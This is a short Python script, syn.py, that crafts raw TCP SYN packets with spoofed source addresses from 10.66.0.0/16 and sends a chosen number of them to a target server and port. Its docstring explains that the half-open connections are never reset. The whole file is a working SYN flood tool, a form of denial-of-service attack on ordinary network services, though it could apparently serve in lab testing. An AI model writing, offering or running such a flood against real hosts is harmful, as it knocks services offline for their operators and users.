#!/usr/bin/python3
"""Sends SYNs that nothing follows, from made-up addresses of 10.66.0.0/16.

    syn.py SERVER PORT COUNT

It takes a raw socket, and a server whose way back leads to where it runs: nobody has
those addresses there, so that no reset ends what was begun."""

import socket
import struct
import sys


def checksum(data):
    """Of RFC 1071."""
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    total = (total >> 16) + (total & 0xffff)
    return ~(total + (total >> 16)) & 0xffff


def packet(source, target, port, number):
    """A SYN in an IPv4 packet, whose own checksum the kernel fills in."""
    tcp = struct.pack("!HHIIBBHHH", 1024 + number % 60000, port, number * 7919, 0, 5 << 4, 2, 8192, 0, 0)
    total = checksum(source + target + struct.pack("!BBH", 0, 6, len(tcp)) + tcp)
    tcp = tcp[:16] + struct.pack("!H", total) + tcp[18:]
    return struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 0, 0, 64, 6, 0) + source + target + tcp


def main():
    server, port, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for n in range(count):
        source = bytes((10, 66, n >> 8 & 255, n & 255))
        raw.sendto(packet(source, socket.inet_aton(server), port, n), (server, 0))


main()
